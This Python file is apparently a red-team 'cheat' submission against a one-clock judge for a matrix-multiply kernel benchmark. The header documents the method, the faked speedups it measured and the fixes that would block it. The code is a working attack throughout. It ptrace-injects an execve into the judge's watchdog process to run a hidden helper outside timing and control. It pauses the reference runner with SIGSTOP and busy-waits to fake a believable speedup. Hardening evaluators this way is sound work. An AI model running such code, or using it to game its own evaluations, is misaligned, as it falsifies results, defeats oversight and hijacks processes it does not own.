# SPDX-License-Identifier: MIT
# Cheat class: escaping the stop. Task: level1/3_Matmul.py
# Outcome: caught, or no faster than an honest copy.
# (Second red-team pass on the one-clock judge.) Not as root, the candidate's process runs as the judge's
# user, and the judge stops and counts what it started: the runner, its descendants and, the judge being a
# subreaper, any orphan of theirs, i.e. every child of the judge's that it did not start itself. The
# processes it did start are left alone: the runners, the stoppers and the watchdogs (_KNOWN). A watchdog
# (`python -S -c _WATCHDOG`, one per runner, a child of the judge in a session of its own) is a plain
# process of the judge's user: not undumpable, so the candidate may ptrace it (no Yama here; classic
# rules: same user, dumpable). At import this candidate finds the watchdog of its own runner (a child of
# its parent whose arguments name its pid), attaches with PTRACE_ATTACH, finds the `syscall` instruction
# it is blocked in (read() of its pipe: the two bytes before its rip), writes a path and an argv into its
# heap through /proc/<pid>/mem, sets its registers to execve(python3, [python3, -c, HELPER, cfg]) with
# orig_rax -1 (no syscall restart) and detaches. The watchdog's pid, parent and place in _KNOWN are now
# the helper's: the judge never stops it, never reads its CPU clock, never kills it (at the end it only
# closes the pipe, and the helper then exits). The helper (numpy, pinned off the runners' core) opens the
# runner's arena and a scratch memfd through /proc/<runner>/fd, watches every input slot, and when a
# slot's values change computes C = A @ B into that slot's place in the scratch with a fingerprint of
# the inputs it used. The runner's "batch" command (its command table, found up the stack at import)
# checks every call's fingerprint and a few sampled dot products: when all answers are there the forwards
# return them (the runner's delivery copies them, as the dry plumbing does), and the handler spins so the
# figure looks like a believable TARGET-times speedup; otherwise the batch is honest. (The first
# correctness trial, never timed, waits for the helper to be up.) As root the runner
# has a user id of its own and the watchdog is root's: the attach fails and the candidate is honest.
# Measured (second pass, CPU, not as root, beside an honest copy each time): 4.06, 2.26, 2.27, 1.72, 2.59,
# 4.00, 1.47x (the helper answered 9-16 of 22 batches; once it also held the reference: 2.27x) against
# 0.63-1.06x for the honest copy; no integrity flag but timing_disagreement (a warning).
# What would stop it: the watchdog (and every process of the judge's user that the judge starts) made
# undumpable (PR_SET_DUMPABLE 0 before it runs anything, as the stopper does), or started under another
# user; the judge checking that its known children are still what it started (/proc/<pid>/exe, cmdline).
import ctypes
import json
import mmap
import os
import sys
import time

import torch
import torch.nn as nn

TARGET = 4.0
HOLD_REFERENCE = True  # hold the reference's runner (SIGSTOP) while an answer is computed
_pc = time.perf_counter

_HELPER = r'''
import json, mmap, os, select, signal, sys, time
cfg = json.loads(sys.argv[1])
log = open(cfg["log"], "a", buffering=1)
log.write("[cheat hijack_the_watchdog] helper %d (was the judge's watchdog) runs; parent %d\n" % (os.getpid(), os.getppid()))
try:
    others = set(os.sched_getaffinity(0)) - set(os.sched_getaffinity(cfg["runner"]))
    if others:
        os.sched_setaffinity(0, others)  # off the runners' core: the reference's frames are not slowed
except OSError:
    pass
import numpy as np
m = mmap.mmap(os.open("/proc/%d/fd/%d" % (cfg["runner"], cfg["fd"]), os.O_RDWR), cfg["size"])
sm = mmap.mmap(os.open("/proc/%d/fd/%d" % (cfg["runner"], cfg["sfd"]), os.O_RDWR), cfg["ssize"])
def view(mm, off, shape):
    n = 1
    for s in shape:
        n *= s
    return np.frombuffer(mm, dtype=np.float32, count=n, offset=off).reshape(shape)
slots = []
for (a_off, a_shape), (b_off, b_shape), out_off in cfg["slots"]:
    A, B = view(m, a_off, a_shape), view(m, b_off, b_shape)
    C = view(sm, out_off, [a_shape[0], b_shape[1]])
    fp = np.frombuffer(sm, dtype=np.float64, count=4, offset=out_off + cfg["out_bytes"])
    slots.append((A, B, C, fp))
def state(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "?"
def finger(A, B):
    return np.array([A.sum(dtype=np.float64), B.sum(dtype=np.float64), A[0, 0], B[-1, -1]], dtype=np.float64)
done = [None] * len(slots)
np.frombuffer(sm, dtype=np.uint64, count=1, offset=cfg["ssize"] - 8)[0] = 0x6b7762  # up and watching
made, holds, t_end = 0, 0, time.time() + 300.0
while time.time() < t_end:
    r, _, _ = select.select([0], [], [], 0)
    if r and not os.read(0, 4096):
        break  # the judge closed the watchdog's pipe: the evaluation is over
    try:
        os.kill(cfg["runner"], 0)
    except OSError:
        break
    idle = True
    for i, (A, B, C, fp) in enumerate(slots):
        f = finger(A, B)
        if done[i] is not None and np.array_equal(f, done[i]):
            continue
        time.sleep(0.0002)  # the judge's write of this set, finished
        f = finger(A, B)
        t0 = time.time()
        held = False
        if cfg["ref"] and state(cfg["runner"]) in ("T", "t"):
            # The candidate's runner is stopped: the judge is timing the reference's frames. Its runner (the
            # judge's user too) is held while the answer is computed, so the candidate's frame comes later.
            if cfg["ref"] and state(cfg["ref"]) not in ("T", "t"):
                try:
                    os.kill(cfg["ref"], signal.SIGSTOP)
                    held = True
                except OSError:
                    pass
        np.matmul(A, B, out=C)
        if held:
            os.kill(cfg["ref"], signal.SIGCONT)
            holds += 1
        if np.array_equal(finger(A, B), f):
            fp[:] = f
            done[i] = f
            made += 1
            if made <= 5:
                log.write("[cheat hijack_the_watchdog] helper: slot %d answered in %.2f ms%s\n"
                          % (i, (time.time() - t0) * 1e3, " (the reference held)" if held else ""))
        idle = False
    if idle:
        time.sleep(0.0002)
log.write("[cheat hijack_the_watchdog] helper done: %d answers computed outside every frame, %d of them with the "
          "reference's runner held (SIGSTOP)\n" % (made, holds))
'''


def _find_serve():
    f = sys._getframe()
    while f is not None:
        if f.f_code.co_name == "serve" and "handlers" in f.f_locals:
            return f.f_locals["handlers"], f.f_locals["self"]
        f = f.f_back
    return None, None


_H, _R = _find_serve()
_st = {"ready": 0, "honest": 0, "mm_ms": None, "answers": {}, "scratch": None, "stride": 0, "hijacked": None}
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class _Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15", "r14", "r13", "r12", "rbp", "rbx", "r11", "r10", "r9", "r8", "rax", "rcx", "rdx", "rsi", "rdi",
        "orig_rax", "rip", "cs", "eflags", "rsp", "ss", "fs_base", "gs_base", "ds", "es", "fs", "gs")]


def _children(ppid):
    out = []
    for n in os.listdir("/proc"):
        if n.isdigit():
            try:
                with open("/proc/%s/stat" % n) as f:
                    if int(f.read().rsplit(")", 1)[1].split()[1]) == ppid:
                        out.append(int(n))
            except (OSError, ValueError, IndexError):
                pass
    return out


def _reference_runner():
    """The other runner of the judge (same code: "runner --fd N")."""
    for pid in _children(os.getppid()):
        if pid == os.getpid():
            continue
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if b"runner" in argv and b"--fd" in argv:
            return pid
    return None


def _watchdog():
    """The judge's watchdog of this runner: a child of the judge whose arguments name this runner's pid."""
    me = str(os.getpid())
    for pid in _children(os.getppid()):
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if b"cgroup.kill" in b"".join(argv) and me.encode() in argv:
            return pid
    return None


def _inject_exec(pid, argv):
    """execve(argv[0], argv, NULL) in process `pid`, by ptrace; True when the tracee was set on its way."""
    if _libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "PTRACE_ATTACH")
    try:
        os.waitpid(pid, 0)
        regs = _Regs()
        if _libc.ptrace(12, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_GETREGS
            raise OSError(ctypes.get_errno(), "PTRACE_GETREGS")
        with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
            mem.seek(regs.rip - 2)
            if mem.read(2) != b"\x0f\x05":
                raise OSError(0, "not stopped in a syscall")
            heap = None
            with open("/proc/%d/maps" % pid) as f:
                for line in f:
                    if line.rstrip().endswith("[heap]"):
                        heap = int(line.split("-")[0], 16)
            if heap is None:
                raise OSError(0, "no heap")
            # argv strings, then the argv array (8-byte pointers, NULL-terminated)
            blob, ptrs, base = b"", [], heap + 4096
            for a in argv:
                ptrs.append(base + len(blob))
                blob += a.encode() + b"\0"
            arr = base + (len(blob) + 15) // 16 * 16
            blob = blob.ljust(arr - base, b"\0")
            for p in ptrs + [0]:
                blob += p.to_bytes(8, "little")
            mem.seek(base)
            mem.write(blob)
        regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, ptrs[0], arr, 0  # execve
        regs.orig_rax = (1 << 64) - 1  # no syscall restart of the interrupted read()
        regs.rip -= 2
        if _libc.ptrace(13, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_SETREGS
            raise OSError(ctypes.get_errno(), "PTRACE_SETREGS")
    finally:
        _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return True


def _byte_off(t):
    return t.storage_offset() * t.element_size()


def _hijack():
    wd = _watchdog()
    if wd is None:
        sys.stderr.write("[cheat hijack_the_watchdog] no watchdog of this runner found\n")
        return
    A, B = _R.m_inputs[0][:2]
    out_bytes = A.shape[0] * B.shape[1] * 4
    stride = (out_bytes + 4096 + 255) // 256 * 256
    size = stride * len(_R.m_inputs) + 4096  # the last 8 bytes: the helper's "up" flag
    sfd = os.memfd_create("kwb-cheat-scratch")
    os.ftruncate(sfd, size)
    _st["scratch"] = torch.frombuffer(mmap.mmap(sfd, size), dtype=torch.uint8)
    _st["stride"] = stride
    slots = [[[_byte_off(x[0]), list(x[0].shape)], [_byte_off(x[1]), list(x[1].shape)], k * stride]
             for k, x in enumerate(_R.m_inputs)]
    cfg = {"runner": os.getpid(), "fd": _R.m_arena.fd, "size": _R.m_arena.size, "sfd": sfd, "ssize": size,
           "slots": slots, "out_bytes": out_bytes, "log": "/proc/%d/fd/2" % os.getpid(),
           "ref": _reference_runner() if HOLD_REFERENCE else None}
    try:
        _inject_exec(wd, [sys.executable, "-c", _HELPER, json.dumps(cfg)])
        _st["hijacked"] = wd
        sys.stderr.write("[cheat hijack_the_watchdog] watchdog %d of the judge %d now execs the helper\n"
                         % (wd, os.getppid()))
    except OSError as e:
        sys.stderr.write("[cheat hijack_the_watchdog] could not take the watchdog %d over: %s\n" % (wd, e))


def _sview(off, dtype, shape):
    n = 1
    for d in shape:
        n *= d
    return _st["scratch"][off:off + n * torch.empty(0, dtype=dtype).element_size()].view(dtype).view(tuple(shape))


def _answered(slots, why=None):
    answers = []
    for k in slots:
        A, B = _R.m_inputs[k][:2]
        base = k * _st["stride"]
        rows, cols = A.shape[0], B.shape[1]
        C = _sview(base, torch.float32, (rows, cols))
        fp = _sview(base + rows * cols * 4, torch.float64, (4,))
        if float(fp[2]) != float(A[0, 0]) or float(fp[3]) != float(B[-1, -1]):
            if why is not None:
                why.append("not yet")
            return None
        sa, sb = float(A.sum(dtype=torch.float64)), float(B.sum(dtype=torch.float64))
        if abs(sa - float(fp[0])) > 1e-6 * (1 + abs(sa)) or abs(sb - float(fp[1])) > 1e-6 * (1 + abs(sb)):
            if why is not None:
                why.append("sums")
            return None
        for i, j in ((0, 0), (rows - 1, cols - 1), (rows // 2, cols // 3)):
            if abs(float(A[i] @ B[:, j]) - float(C[i, j])) > 1e-3 * (1 + abs(float(C[i, j]))):
                if why is not None:
                    why.append("dot")
                return None
        answers.append((A, C))
    return answers


if _H is not None and _R is not None and getattr(_R.m_arena, "kind", "") == "host":
    _ob = _H["batch"]
    try:
        _hijack()
    except Exception as e:
        sys.stderr.write("[cheat hijack_the_watchdog] no helper: %s\n" % e)

    def _batch(msg):
        if _st["hijacked"] and str(msg.get("what", "")).startswith("trial") and not _st.get("up"):
            # Trials are never timed: wait there (up to 10 s) for the helper to be up.
            t = _pc()
            while _pc() - t < 10.0 and int(_st["scratch"][-8:].view(torch.int64)[0]) != 0x6b7762:
                time.sleep(0.01)
            _st["up"] = True
            sys.stderr.write("[cheat hijack_the_watchdog] %s: waited %.2f s for the helper\n" % (msg.get("what"), _pc() - t))
        t0 = _pc()
        slots = list(msg.get("slots") or [0])
        n = len(slots)
        got = None
        what = str(msg.get("what", ""))
        if _st["hijacked"] and what.startswith("timed calls") and _st["mm_ms"]:
            # The helper may be finishing this very set: waited for, within the budget of a TARGET x frame.
            why = []
            while True:
                got = _answered(slots, why)
                if got is not None or (_pc() - t0) * 1000.0 > 0.5 * n * _st["mm_ms"] / TARGET:
                    break
                time.sleep(0.0001)
            if got is None:
                sys.stderr.write("[cheat hijack_the_watchdog] %s: no answer in time (%s)\n" % (what, why[-1] if why
                                                                                              else "?"))
        if got is None:
            _st["honest"] += 1
            t1 = _pc()
            rep = _ob(msg)
            if rep.get("ok"):
                _st["mm_ms"] = min(_st["mm_ms"] or 1e9, (_pc() - t1) * 1000.0 / n)
            return rep
        _st["ready"] += 1
        _st["answers"] = {A.data_ptr(): C for A, C in got}
        try:
            rep = _ob(msg)  # the forwards return the helper's answers; the delivery copies them
        finally:
            _st["answers"] = {}
        while (_pc() - t0) * 1000.0 < n * _st["mm_ms"] / TARGET:
            pass
        return rep

    def _report(msg, _orep=_H["report"]):
        sys.stderr.write("[cheat hijack_the_watchdog] %d batches answered from the helper's outputs, %d computed "
                         "honestly\n" % (_st["ready"], _st["honest"]))
        return _orep(msg)

    _H["batch"], _H["report"] = _batch, _report


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, A, B):
        C = _st["answers"].get(A.data_ptr())
        return C if C is not None else torch.matmul(A, B)
